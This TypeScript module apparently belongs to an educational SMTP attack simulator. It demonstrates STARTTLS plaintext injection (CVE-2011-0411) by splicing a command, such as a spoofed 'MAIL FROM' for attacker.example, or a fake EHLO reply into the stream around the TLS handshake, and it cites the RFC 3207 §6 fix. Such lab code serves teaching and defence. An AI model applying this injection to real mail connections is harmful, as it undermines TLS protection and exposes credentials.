// starttls-injection: the plaintext injection class of CVE-2011-0411. The attacker puts a
// command in the same packet right after the client's STARTTLS; a server that does not drop
// what it buffered before the handshake runs it inside TLS, as if the client had sent it
// protected (RFC 3207 §6 says discard). The other way round, a reply put after the server's
// 220 must be dropped by the client.

import { text } from '../../../common/i18n/text.ts';
import type { AttackModule } from '../attack-module.ts';
import { interceptSmtpLinks } from '../proxy/intercept-links.ts';
import { smtpTap } from '../proxy/smtp-tap.ts';
import { commandIn, replyTo } from '../proxy/smtp-watch.ts';

// What a vulnerable client would read as the first reply inside TLS: an EHLO answer of the
// attacker's making (no STARTTLS, plaintext AUTH).
const FAKE_REPLY = Buffer.from('250-mx.example.jp\r\n250 AUTH PLAIN LOGIN\r\n');

export const starttlsInjection: AttackModule = {
  info: {
    name: 'starttls-injection',
    title: { en: 'STARTTLS command injection', ja: 'STARTTLS コマンドインジェクション' },
    description: {
      en: 'Puts a command in the same packet right after the client\'s STARTTLS (or a reply right after the server\'s 220). A server that keeps what it buffered before the TLS handshake runs the command inside TLS (CVE-2011-0411); a correct one discards it (RFC 3207 §6). Switch the receiver\'s vulnerable mode on to see the difference.',
      ja: 'クライアントの STARTTLS の直後に、同じパケットでコマンドを追加します（または、サーバーの 220 の直後に応答を追加します）。TLS ハンドシェイク前にバッファした内容を捨てないサーバーは、そのコマンドを TLS の中で実行してしまいます（CVE-2011-0411）。正しいサーバーは破棄します（RFC 3207 §6）。受信サーバーの脆弱モードを有効にすると違いが分かります。',
    },
    target: 'smtp',
    params: [
      {
        name: 'direction',
        description: {
          en: 'command: inject a command after STARTTLS towards the server; reply: inject a fake EHLO reply after 220 towards the client',
          ja: 'command: STARTTLS の後にサーバー向けのコマンドを注入、reply: 220 の後にクライアント向けの偽の EHLO 応答を注入',
        },
        values: ['command', 'reply'],
      },
      {
        name: 'command',
        description: { en: 'The command injected after STARTTLS (direction=command)', ja: 'STARTTLS の後に注入するコマンド（direction=command のとき）' },
        values: ['NOOP', 'RSET', 'HELP', 'MAIL FROM:<mallory@attacker.example>'],
      },
      {
        name: 'receiver',
        description: {
          en: 'fixed: mx.example.jp discards what came before the handshake (RFC 3207 §6); vulnerable: it runs it inside TLS, as servers open to CVE-2011-0411 did (while the attack is on)',
          ja: 'fixed: mx.example.jp はハンドシェイク前に届いたものを破棄する（RFC 3207 §6）、vulnerable: それを TLS の中で実行する（CVE-2011-0411 の脆弱なサーバーと同じ。攻撃中のみ）',
        },
        values: ['fixed', 'vulnerable'],
      },
    ],
    stoppedBy: {
      en: 'A server and client that discard everything received before the TLS handshake (RFC 3207 §6)',
      ja: 'TLS ハンドシェイク前に受け取ったものをすべて破棄するサーバーとクライアント（RFC 3207 §6）',
    },
  },
  async start(run) {
    const towardsServer = run.params.direction === 'command';
    const injected = Buffer.from(`${run.params.command}\r\n`);
    const receiver = run.ctx.receiver;
    if (run.params.receiver === 'vulnerable') receiver?.setStarttlsPlaintext('execute');
    const installation = interceptSmtpLinks(run, (conn) => {
      const watch = smtpTap(run, conn);
      let done = false;
      return {
        data(dir, chunk, io) {
          if (done || watch.inTls) {
            io.send(dir, chunk);
            watch.feed(dir, chunk);
            return;
          }
          if (dir === 's2c') {
            const rows = watch.feed('s2c', chunk);
            const ready = replyTo(rows, 'STARTTLS');
            if (towardsServer || ready?.detail.code !== 220) return io.send('s2c', chunk);
            done = true;
            const out = Buffer.concat([chunk, FAKE_REPLY]);
            run.rows.on(conn, {
              action: 'inject',
              dir: 's2c',
              said: text('attack.injectReply', { host: conn.link.to }),
              fields: { direction: 'reply', injected: FAKE_REPLY.toString('latin1') },
              before: chunk,
              after: out,
              rule: 'RFC 3207 §6',
            });
            io.send('s2c', out);
            return;
          }
          if (!towardsServer) {
            io.send('c2s', chunk);
            watch.feed('c2s', chunk);
            return;
          }
          let at = -1;
          watch.feedLines('c2s', chunk, (_start, end, rows) => {
            if (at >= 0 || !commandIn(rows, 'STARTTLS')) return;
            at = end;
            watch.feed('c2s', injected);
          });
          if (at < 0) return io.send('c2s', chunk);
          done = true;
          const out = Buffer.concat([chunk.subarray(0, at), injected, chunk.subarray(at)]);
          run.rows.on(conn, {
            action: 'inject',
            dir: 'c2s',
            said: text('attack.injectCommand', { command: run.params.command }),
            fields: { direction: 'command', injected: run.params.command },
            before: chunk,
            after: out,
            rule: 'RFC 3207 §6',
          });
          // One write: the injected line travels in the same segment as STARTTLS.
          io.send('c2s', out);
        },
        closed: () => watch.finish(),
      };
    });
    return {
      links: installation.links,
      async stop() {
        await installation.stop();
        if (run.params.receiver === 'vulnerable') receiver?.setStarttlsPlaintext('discard');
      },
    };
  },
};
